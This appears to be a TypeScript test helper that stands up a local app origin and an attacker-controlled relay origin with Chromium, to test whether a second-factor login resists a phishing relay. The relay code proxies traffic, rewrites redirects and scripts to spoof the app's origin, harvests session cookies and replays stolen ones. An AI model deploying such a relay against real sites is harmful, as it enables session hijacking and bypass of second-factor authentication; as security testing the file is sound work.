import { createHash, X509Certificate } from 'node:crypto'
import { mkdtemp, rm } from 'node:fs/promises'
import { createServer } from 'node:https'
import type { IncomingHttpHeaders, IncomingMessage, ServerResponse } from 'node:http'
import { request as send } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

import type { Browser } from 'playwright-core'
import { afterAll } from 'vitest'

import { openCertificates } from '../../../example-app/https/certificate.ts'
import type { KeyPair } from '../../../example-app/https/key-pair.ts'
import { launchChromium } from '../chromium.ts'

export const appUrl = 'https://app.example'
export const relayUrl = 'https://relay.example'

/** Something that is passed on to the app. */
interface Passing {
  readonly port: string
  readonly req: IncomingMessage
  readonly headers: IncomingHttpHeaders
}

/** Both origins over TLS, and a Chromium that finds and trusts them, and no other origin. */
export interface Origins {
  readonly chromium: Browser
  /** Leads both to another app. @returns a relay that has seen nothing yet. */
  leadTo(app: string): Relay
}

/** For the tests of a file, which share them: certificates and Chromium take longer than some tests. Await it at the top. */
export async function serveOrigins(): Promise<Origins> {
  const folder = await mkdtemp(join(tmpdir(), 'second-factor-relay-'))
  afterAll(() => rm(folder, { recursive: true }))
  const names = [appUrl, relayUrl].map((url) => new URL(url).hostname)
  const { server } = await openCertificates(folder, names, Math.floor(Date.now() / 1000))
  let port = ''
  let relay = createRelay(port)
  const [front, evil] = await Promise.all([
    serve(server, async (req, res) => {
      const answer = await passOn({ port, req, headers: req.headers })
      res.writeHead(answer.statusCode ?? 502, answer.headers)
      answer.pipe(res)
    }),
    serve(server, (req, res) => relay.listener(req, res)),
  ])
  const key = new X509Certificate(server.certificate).publicKey.export({ type: 'spki', format: 'der' })
  const chromium = await launchChromium({
    args: [
      `--host-resolver-rules=MAP app.example:443 127.0.0.1:${front}, MAP relay.example:443 127.0.0.1:${evil}, MAP * ~NOTFOUND`,
      `--ignore-certificate-errors-spki-list=${createHash('sha256').update(key).digest('base64')}`,
    ],
  })
  afterAll(() => chromium.close())
  return {
    chromium,
    leadTo(app) {
      ;({ port } = new URL(app))
      relay = createRelay(port)
      return relay
    },
  }
}

type Passer = (req: IncomingMessage, res: ServerResponse) => Promise<void>

export interface Relay {
  readonly listener: Passer
  /** The attacker has stolen cookies of the app from the browser of the person, and sends them along. */
  steal(cookies: Readonly<Record<string, string>>): void
  /** Forgets the person who was here. */
  forget(): void
  /** Whether the attacker is in: the app takes the cookies that the relay has seen, from the attacker's own machine. */
  isIn(): Promise<boolean>
}

/**
 * Passes everything on between a person and the app, so that neither notices: it says of itself what the page of the app would
 * say, and changes addresses and scripts accordingly.
 */
function createRelay(port: string): Relay {
  const seenCookies = new Map<string, string>()
  let stolen = ''

  async function relayed(req: IncomingMessage) {
    const { origin, referer: _, 'accept-encoding': _coding, ...headers } = req.headers
    const ownHeaders = {
      ...headers,
      cookie: [headers.cookie ?? '', stolen].filter(Boolean).join('; '),
      host: 'app.example',
      'sec-fetch-site': 'same-origin',
      ...(origin === undefined ? {} : { origin: appUrl }),
    }
    const answer = await passOn({ port, req, headers: ownHeaders })
    for (const line of answer.headers['set-cookie'] ?? []) {
      const [, name = '', value = ''] = /^([^=]+)=([^;]*)/.exec(line) ?? []
      seenCookies.set(name, value)
    }
    return answer
  }

  return {
    async listener(req, res) {
      const answer = await relayed(req)
      const { 'content-length': _, location, ...headers } = answer.headers
      const moved = location === undefined ? {} : { location: location.replace(appUrl, relayUrl) }
      res.writeHead(answer.statusCode ?? 502, { ...headers, ...moved })
      if (/javascript/.test(headers['content-type'] ?? '')) res.end(changed(await read(answer)))
      else answer.pipe(res)
    },
    steal: (cookies) => void (stolen = cookieHeader(Object.entries(cookies))),
    forget: () => seenCookies.clear(),
    async isIn() {
      const headers = { cookie: cookieHeader([...seenCookies]) }
      const answer = await fetch(`http://127.0.0.1:${port}/account`, { headers, redirect: 'manual' })
      return answer.ok && ((await answer.json()) as { verified?: boolean }).verified === true
    },
  }
}

/** The page is to sign what a page of the app would sign. */
const changed = (script: string): string => script.replaceAll('location.origin', `"${appUrl}"`)

async function read(answer: IncomingMessage): Promise<string> {
  let text = ''
  for await (const part of answer) text += String(part)
  return text
}

const cookieHeader = (cookies: readonly (readonly [string, string])[]): string =>
  cookies.map(([name, value]) => `${name}=${value}`).join('; ')

function passOn({ port, req, headers }: Passing): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => {
    const passed = send({ host: '127.0.0.1', port, method: req.method, path: req.url, headers }, resolve)
    passed.on('error', reject)
    req.on('close', () => req.complete || passed.destroy())
    req.pipe(passed)
  })
}

/** @returns its port. */
async function serve({ certificate: cert, key }: KeyPair, listener: Passer): Promise<number> {
  const server = createServer({ cert, key }, (req, res) => void listener(req, res).catch(() => res.destroy()))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  afterAll(async () => {
    server.closeAllConnections()
    await new Promise((resolve) => server.close(resolve))
  })
  return (server.address() as AddressInfo).port
}
